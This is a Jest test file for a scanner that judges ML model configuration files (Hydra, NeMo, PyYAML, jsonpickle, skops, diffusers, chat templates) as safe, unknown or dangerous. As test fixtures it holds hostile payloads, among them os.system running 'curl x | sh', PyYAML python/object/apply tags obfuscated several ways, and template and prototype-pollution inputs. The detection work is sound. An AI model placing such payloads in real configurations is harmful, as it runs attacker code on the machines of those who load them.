import { describe, expect, test } from '@jest/globals'
import { judgeConfig } from '../../src/formats/config/judge.ts'
import { look, messages, outcome } from '../support/inspecting.ts'
import { numbers, tar } from '../support/models.ts'
import { stateDict } from '../support/pickle.ts'
import { templates } from '../support/templates.ts'
import { torchZip, zip } from '../support/zip.ts'

const file = (content: string | object): Buffer =>
  Buffer.from(typeof content === 'string' ? content : JSON.stringify(content))
/** Interpolations of OmegaConf look like those of JavaScript. */
const DOLLAR = '$'
const first = async (content: string | object): Promise<string> => {
  const { findings } = await look(file(content), 'config.json')
  const [{ level = '', message = '', call } = {}] = findings
  return `${level}: ${message}${call === undefined ? '' : ` ${call}`}`
}

describe('files that name nothing to run are text or safe', () => {
  test.each<[string, string | object, string]>([
    ['a web application', { name: 'x', target: 'es2022', type: 'module' }, 'text unknown unreadable'],
    [
      'a model of Hugging Face',
      { model_type: 'bert', architectures: ['BertModel'] },
      'text unknown unreadable',
    ],
    ['a build', 'target: app.main\nsteps:\n  - run: make\n', 'text unknown unreadable'],
    [
      'words',
      'The key auto_map: it names code.\nMore words, `_target_: os.system` among them.\n',
      'text unknown unreadable',
    ],
    [
      'a card with templates',
      '---\nlicense: mit\n---\n# Model\n\nUse `tokenizer.apply_chat_template` and trust_remote_code.\n\n- one: two\n',
      'text unknown unreadable',
    ],
    [
      'a page of a web framework',
      '<p>{{ user.name }}</p>\n{% for x in items %}{{ x }}{% endfor %}\n',
      'text unknown unreadable',
    ],
    ['attention of its own', { _attn_implementation_internal: 'sdpa' }, 'config safe complete'],
    ['a layer', { model: { _target_: 'torch.nn.Linear', in_features: 4 } }, 'config safe complete'],
    [
      'the operators of an exported program',
      { nodes: [{ target: 'torch.ops.aten.linear.default' }, { target: 'torch.ops.higher_order.cond' }] },
      'text unknown unreadable',
    ],
    [
      'settings of NeMo',
      'encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n  n_layers: 17\noptim:\n  name: adamw\n',
      'config safe complete',
    ],
    [
      'latent diffusion',
      'model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    unet_config:\n      target: ldm.modules.diffusionmodules.openaimodel.UNetModel\n      params: {in_channels: 4}\n',
      'config safe complete',
    ],
    [
      'SpeechBrain',
      'model: !new:speechbrain.nnet.RNN.LSTM\n  input_size: 40\nother: !ref <model>\n',
      'config safe complete',
    ],
    [
      'diffusers',
      {
        _class_name: 'StableDiffusionPipeline',
        _diffusers_version: '0.30.0',
        unet: ['diffusers', 'UNet2DConditionModel'],
        safety_checker: [null, null],
        tokenizer: ['transformers', 'CLIPTokenizer'],
      },
      'config safe complete',
    ],
    [
      'sentence-transformers',
      [
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
      ],
      'config safe complete',
    ],
    [
      'PEFT',
      {
        peft_type: 'LORA',
        auto_mapping: {
          base_model_class: 'BertModel',
          parent_library: 'transformers.models.bert.modeling_bert',
        },
      },
      'config safe complete',
    ],
    [
      'MLflow',
      'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: conda.yaml\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n',
      'config safe complete',
    ],
    [
      'a dense layer',
      { in_features: 8, out_features: 8, activation_function: 'torch.nn.modules.activation.Tanh' },
      'config safe complete',
    ],
    [
      'skops',
      {
        __class__: 'LogisticRegression',
        __module__: 'sklearn.linear_model._logistic',
        __loader__: 'ObjectNode',
        content: { __class__: 'dict', __module__: 'builtins', __loader__: 'DictNode' },
      },
      'config safe complete',
    ],
  ])('%s', async (_, content, expected) => {
    expect(await outcome(file(content), 'model.bin')).toBe(expected)
  })

  test.each(Object.entries(templates))('tokenizer_config.json with the template %s', async (_, template) => {
    expect(await outcome(file({ chat_template: template }), 'tokenizer_config.json')).toBe(
      'config safe complete',
    )
    expect(
      await outcome(
        file({
          chat_template: [
            { name: 'default', template },
            { name: 'tool_use', template },
          ],
        }),
      ),
    ).toBe('config safe complete')
    expect(await outcome(file(template), 'chat_template.jinja')).toBe('config safe complete')
  })
})

describe('what is dangerous', () => {
  test.each<[string, string | object, string]>([
    [
      'Hydra',
      { model: { encoder: { _target_: 'os.system', command: 'curl x | sh' } } },
      'The setting model.encoder._target_ names "os.system", which starts processes or reaches the operating system: Hydra and NeMo call it. os.system(command=\'curl x | sh\')',
    ],
    [
      'arguments by place',
      'a:\n- _target_: subprocess.run\n  _args_: [[sh, -c, id]]\n',
      "The setting a.0._target_ names \"subprocess.run\", which starts processes or reaches the operating system: Hydra and NeMo call it. subprocess.run(['sh', '-c', 'id'])",
    ],
    [
      'the older key',
      'model:\n  target: builtins.exec\n  params:\n    source: import os\n',
      'The setting model.target names "builtins.exec", which evaluates or compiles text as code: frameworks that build objects from settings call it. builtins.exec(source=\'import os\')',
    ],
    [
      'the way through another module',
      { _target_: 'nemo.utils.os.system', command: 'id' },
      'The setting _target_ names "nemo.utils.os.system", which reaches through other modules for os: Hydra and NeMo call it. nemo.utils.os.system(command=\'id\')',
    ],
    [
      'a name by arguments',
      { _target_: 'hydra.utils.get_method', path: 'os.system' },
      'The setting _target_ names "hydra.utils.get_method", which looks up or calls what its arguments name: Hydra and NeMo call it. hydra.utils.get_method(path=\'os.system\')',
    ],
    [
      'an escaped key',
      '{"\\u005ftarget_": "posix.system", "command": "id"}',
      'The setting _target_ names "posix.system", which starts processes or reaches the operating system: Hydra and NeMo call it. posix.system(command=\'id\')',
    ],
    [
      'a tag that calls',
      'a: !!python/object/apply:os.system ["id"]\n',
      "The tag python/object/apply at a calls \"os.system\", which starts processes or reaches the operating system: PyYAML's unsafe loader does so while it reads. os.system('id')",
    ],
    [
      'a tag in full',
      'a: !<tag:yaml.org,2002:python/object/new:my.Thing> [1]\n',
      'The tag python/object/new at a calls "my.Thing": PyYAML\'s unsafe loader does so while it reads. my.Thing(1)',
    ],
    [
      'a tag by a handle, escaped',
      '%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/object/apply:o%73.system [id]\n',
      "The tag python/object/apply at a calls \"os.system\", which starts processes or reaches the operating system: PyYAML's unsafe loader does so while it reads. os.system('id')",
    ],
    [
      'a tag at a key',
      '? !!python/object/apply:os.system [id]\n: 1\n',
      "The tag python/object/apply at ? calls \"os.system\", which starts processes or reaches the operating system: PyYAML's unsafe loader does so while it reads. os.system('id')",
    ],
    [
      'a module',
      'a: !!python/module:evil\n',
      'The tag python/module at a imports "evil": PyYAML\'s unsafe loader does so while it reads. evil',
    ],
    [
      'SpeechBrain',
      'a: !apply:os.system [id]\n',
      'The tag !apply at a names "os.system", which starts processes or reaches the operating system: SpeechBrain calls it. os.system(\'id\')',
    ],
    [
      'jsonpickle',
      { a: { 'py/reduce': [{ 'py/function': 'os.system' }, { 'py/tuple': ['id'] }] } },
      'The setting a.py/reduce names "os.system", which starts processes or reaches the operating system: jsonpickle calls it. os.system(\'id\')',
    ],
    [
      'a kernel',
      { _attn_implementation_internal: 'attacker/kernel' },
      'The setting _attn_implementation_internal names "attacker/kernel": transformers before 5.3.0 fetches and runs a kernel of that name from the hub.',
    ],
    [
      'a module of sentence-transformers',
      [{ idx: 0, name: '0', path: '', type: 'os.system' }],
      'The setting 0.type names "os.system", which starts processes or reaches the operating system: sentence-transformers imports it, or runs a file of that name in the repository.',
    ],
    [
      'a part of diffusers',
      { _class_name: 'X', _diffusers_version: '1', unet: ['subprocess', 'Popen'] },
      'The setting unet names "subprocess.Popen", which starts processes or reaches the operating system: diffusers imports it.',
    ],
    [
      'PEFT',
      { auto_mapping: { base_model_class: 'system', parent_library: 'os' } },
      'The setting auto_mapping names "os.system", which starts processes or reaches the operating system: PEFT imports it.',
    ],
    [
      'a loader of MLflow',
      'flavors:\n  python_function:\n    loader_module: runpy\n',
      'The setting flavors.python_function contains code: MLflow imports "runpy" and calls its _load_pyfunc; the module evaluates or compiles text as code. runpy._load_pyfunc()',
    ],
    [
      'skops',
      { __class__: 'attrgetter', __module__: 'operator', __loader__: 'OperatorFuncNode' },
      'The node the root (OperatorFuncNode) names "operator.attrgetter", which reaches any attribute of any object: skops builds it. operator.attrgetter',
    ],
    [
      'skops, a stranger behind a trusted name',
      { a: { __class__: 'call', __module__: 'builtins', __loader__: 'OperatorFuncNode' } },
      'The node a (OperatorFuncNode) makes a function of the module operator, "builtins.call": some versions of skops do so without asking.',
    ],
    [
      'a template by name',
      { chat_template: [{ name: 'rag', template: '{{ x.__class__ }}' }] },
      'The template chat_template (rag) reaches for __class__: programs that render it unguarded would run its code. {{ x.__class__ }}',
    ],
    [
      'settings that do not parse',
      'a:\n  _target_: os.system\n  b: [1\n',
      'It names "os.system", which starts processes or reaches the operating system: frameworks that build objects from settings call it.',
    ],
  ])('%s', async (_, content, says) => {
    expect(await first(content)).toBe(`dangerous: ${says}`)
  })

  test('a template among settings hides nothing', async () => {
    const both = 'chat_template: "{% for m in messages %}{{ m.x }}{% endfor %}"\n_target_: os.system\n'
    expect(await outcome(file(both))).toBe('config dangerous complete')
  })

  test.each([
    'a: !!pyth%6Fn/object/apply:os.system [id]\n',
    '<<: {a: !!python/object/apply:os.system [id]}\n',
    '\ufeffa: !!python/object/apply:os.system [id]\n',
    '%TAG !! tag:yaml.org,2002:python/\n---\na: !!object/apply:os.system [id]\n',
    'a: {x: 1,\ny}\nc: !!python/object/apply:os.system [id]\n',
    'a: &x !!python/object/apply:os.system [id]\nb: *x\n',
    'a: 1\n---\nb: !!python/tuple [!!python/object/apply:os.system [id]]\n',
    `${'['.repeat(150)}!!python/object/apply:os.system [id]${']'.repeat(150)}\n`,
  ])('what PyYAML would run, however it is written: %j', async content => {
    expect((await look(file(content), 'config.yaml')).verdict).toBe('dangerous')
  })

  test('a template alone', async () => {
    expect(await outcome(file('{{ messages.__class__ }}'), 'chat_template.jinja')).toBe(
      'config dangerous complete',
    )
    expect(await outcome(file("text\n{% for m in messages %}{{ m['__init__'] }}{% endfor %}"))).toBe(
      'config dangerous complete',
    )
  })
})

describe('what is an open question', () => {
  test.each<[string, string | object, string]>([
    [
      'code of its own',
      { auto_map: { AutoConfig: 'configuration_x.XConfig', AutoModel: 'modeling_x.XModel' } },
      'The setting auto_map names Python code of its own repository: "configuration_x.XConfig"; transformers runs it with trust_remote_code.',
    ],
    [
      'code of another repository',
      { auto_map: { AutoModel: 'owner/repo--modeling_x.XModel' } },
      'The setting auto_map names Python code of another repository, whose owner can change it: "owner/repo--modeling_x.XModel"; transformers runs it with trust_remote_code.',
    ],
    [
      'custom_generate',
      { custom_generate: 'owner/repo' },
      'The setting custom_generate names Python code of another repository, whose owner can change it: "owner/repo"; transformers runs it when text is generated with trust_remote_code.',
    ],
    [
      'custom_pipelines',
      { custom_pipelines: { x: { impl: 'pipeline.Mine', pt: ['AutoModel'] } } },
      'The setting custom_pipelines names Python code of its own repository: "pipeline.Mine"; transformers runs it with trust_remote_code.',
    ],
    [
      'trust',
      { text_config: { trust_remote_code: true } },
      'The setting text_config.trust_remote_code turns on code from repositories for whatever is loaded with this file.',
    ],
    [
      'a name that nobody knows',
      { _target_: 'my.project.Net' },
      'The setting _target_ names "my.project.Net", which is on no list of names that are known to be safe: Hydra and NeMo call it.',
    ],
    [
      'a name that is put together',
      { _target_: `${DOLLAR}{a}.system` },
      `The setting _target_ names "${DOLLAR}{a}.system", which is put together when the file is loaded: Hydra and NeMo call it.`,
    ],
    [
      'a name that is safe in one way only',
      { _target_: 'torch.storage._load_from_bytes', b: 'x' },
      'The setting _target_ names "torch.storage._load_from_bytes", which is harmless in the one way only in which its library writes it: Hydra and NeMo call it.',
    ],
    [
      'a key twice',
      '{"_target_": "torch.nn.ReLU", "_target_": "torch.nn.GELU"}',
      'The key "_target_" stands twice in one place: parsers disagree on which counts.',
    ],
    [
      'a pipeline of its own',
      { _class_name: ['pipeline', 'Mine'], _diffusers_version: '1' },
      'The setting _class_name names "Mine" in the file "pipeline" of the repository: diffusers runs it with trust_remote_code.',
    ],
    [
      'a module of its own',
      [{ idx: 0, name: '0', path: '', type: 'custom_st.Transformer' }],
      'The setting 0.type names "custom_st.Transformer", which is on no list of names that are known to be safe: sentence-transformers imports it, or runs a file of that name in the repository.',
    ],
    [
      'MLflow with a class in a pickle',
      'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n',
      'The setting flavors.python_function contains code: mlflow.pyfunc.model loads a class from a pickle and calls it.',
    ],
    [
      'MLflow with code',
      'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n',
      'The flavour "python_function" contains code: MLflow puts the folder "code" on the path of imports.',
    ],
    [
      'TorchServe',
      {
        createdOn: '1',
        runtime: 'python',
        model: { modelName: 'a', serializedFile: 'a.pt', handler: 'handler.py' },
        archiverVersion: '0.12',
      },
      'The archive contains code: TorchServe runs the handler "handler.py".',
    ],
    [
      'BentoML',
      'service: service:svc\nname: x\nbentoml_version: 1.2.0\n',
      'The bundle contains code: BentoML imports the service "service:svc".',
    ],
    [
      'skops, a stranger',
      { __class__: 'Mine', __module__: 'my.module', __loader__: 'ObjectNode' },
      'The node the root (ObjectNode) names "my.module.Mine", which is on no list of names that are known to be safe: skops imports it once it is trusted.',
    ],
    [
      'skops, a method',
      {
        __class__: 'LogisticRegression',
        __module__: 'sklearn.linear_model._logistic',
        __loader__: 'MethodNode',
      },
      'The node the root (MethodNode) takes a method by its name from an object, "sklearn.linear_model._logistic.LogisticRegression": some versions of skops do so without asking.',
    ],
  ])('%s', async (_, content, says) => {
    expect(await first(content)).toBe(`unknown: ${says}`)
  })
})

test('a key of plain letters that is written with escapes is told', async () => {
  expect(await messages(file('{"\\u0061b": 1}'))).toEqual([
    'unknown: The key "ab" is written with escapes, which hides it from a search.',
  ])
  expect(await outcome(file('{"\\u00e9t\\u00e9": 1, "a": "\\u0041"}'))).toBe('text unknown unreadable')
  expect(await outcome(file({ auto_map: {} }))).toBe('config safe complete')
})

test('a finding knows its byte', async () => {
  const content = '{"ä": 1, "_target_": "os.system"}'
  const { findings } = await look(file(content))
  expect(findings.map(({ offset }) => offset)).toEqual([Buffer.from(content).indexOf('"_target_"')])
})

test('members of archives are judged', async () => {
  const yaml = file('encoder:\n  _target_: os.system\n')
  expect((await look(tar([{ name: 'model_config.yaml', content: yaml }]), 'a.nemo')).findings).toMatchObject([
    { level: 'dangerous', member: 'model_config.yaml', offset: 11 },
  ])
  const schema = file({ __class__: 'system', __module__: 'os', __loader__: 'FunctionNode' })
  const { verdict, findings } = await look(zip([{ name: 'schema.json', content: schema }]), 'a.skops')
  expect([verdict, findings[0]?.member]).toEqual(['dangerous', 'schema.json'])
})

test('operators that touch files, and those of other libraries, are told', async () => {
  const of = async (target: string) => (await look(file({ nodes: [{ target }] }), 'a.json')).verdict
  expect(await of('torch.ops.aten.save')).toBe('dangerous')
  expect(await of('torch.ops.aten.from_file.default')).toBe('dangerous')
  expect(await of('torch.ops.evil.run.default')).toBe('unknown')
  expect(await of('torch.ops.load_library')).toBe('dangerous')
})

test('archives whose settings name only layers are safe', async () => {
  const settings = file('encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n')
  const nemo = tar([
    { name: 'model_config.yaml', content: settings },
    { name: 'model_weights.ckpt', content: torchZip(stateDict(2)) },
  ])
  expect(await outcome(nemo, 'a.nemo')).toBe('nemo safe complete')
  const schema = file({
    __class__: 'Ridge',
    __module__: 'sklearn.linear_model._ridge',
    __loader__: 'ObjectNode',
  })
  const skops = zip([
    { name: 'schema.json', content: schema },
    { name: '1.npy', content: numbers() },
  ])
  expect((await look(skops, 'a.skops')).verdict).toBe('safe')
})

test('what is known to be a configuration and names nothing is safe', () => {
  expect(judgeConfig('a: 1\nb: [x, y]\n')).toEqual({
    format: 'config',
    completeness: 'complete',
    findings: [],
  })
  expect(judgeConfig('a: [1')).toMatchObject({ completeness: 'unreadable' })
  expect(judgeConfig('a: &x [*x, *x]\n_target_: os.system\n').findings).toMatchObject([
    { level: 'dangerous' },
  ])
})

test.each([
  ['deep lists', `{"_target_": ${'['.repeat(100_000)}`],
  ['deep maps of YAML', `_target_: x\n${'? '.repeat(50_000)}`],
  [
    'many aliases',
    `a: &a [_target_]\n${Array.from({ length: 5000 }, (_, n) => `k${n}: &b${n} [*a, *a]`).join('\n')}`,
  ],
  ['hostile keys', '{"__proto__": {"_target_": "os.system"}, "constructor": {"auto_map": "__proto__"}}'],
  ['quotes', `_target_: ${'"\\'.repeat(100_000)}`],
  ['colons', `_target_${' '.repeat(200_000)}: os.system`],
  ['many targets', `x: [${'{_target_: os.system},'.repeat(20_000)}]`],
])('%s end soon', async (_, content) => {
  const start = performance.now()
  const { verdict } = await look(file(content))
  expect(verdict).not.toBe('safe')
  expect(performance.now() - start).toBeLessThan(10_000)
})

test('no promise of a suffix is broken by a configuration', async () => {
  expect(await messages(file({ _target_: 'torch.nn.ReLU' }), 'config.json')).toEqual([])
  expect(await messages(file('a: {_target_: torch.nn.ReLU}'), 'config.yaml')).toEqual([])
})
